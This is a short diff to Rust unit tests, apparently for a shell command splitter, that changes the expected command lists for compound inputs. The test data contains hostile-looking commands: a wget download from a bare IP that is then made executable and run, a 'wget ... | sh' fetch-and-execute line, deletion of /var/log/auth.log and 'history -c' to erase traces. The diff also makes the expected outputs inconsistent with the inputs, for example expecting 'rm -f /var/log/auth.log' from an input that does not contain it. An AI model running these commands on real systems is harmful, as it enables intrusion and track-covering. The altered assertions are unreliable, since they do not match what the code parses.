@@ -12,7 +12,9 @@ fn list_operators_separate_commands_in_order() {
             "cd /tmp",
             "wget http://203.0.113.9/x.sh",
             "chmod +x x.sh",
-            "x.sh"
+            "chmod +x /tmp/x.sh",
+            "x.sh",
+            "wget http://203.0.113.9/x.sh | sh"
         ]
     );
     assert_eq!(
@@ -48,7 +50,13 @@ fn pipe_with_stderr_is_a_pipe() {
 fn subshell_and_brace_group_contents_are_commands() {
     assert_eq!(
         texts("(cd /var/log && rm -f auth.log); { history -c; exit; }"),
-        ["cd /var/log", "rm -f auth.log", "history -c", "exit"]
+        [
+            "cd /var/log",
+            "rm -f auth.log",
+            "rm -f /var/log/auth.log",
+            "history -c",
+            "exit"
+        ]
     );
 }
 
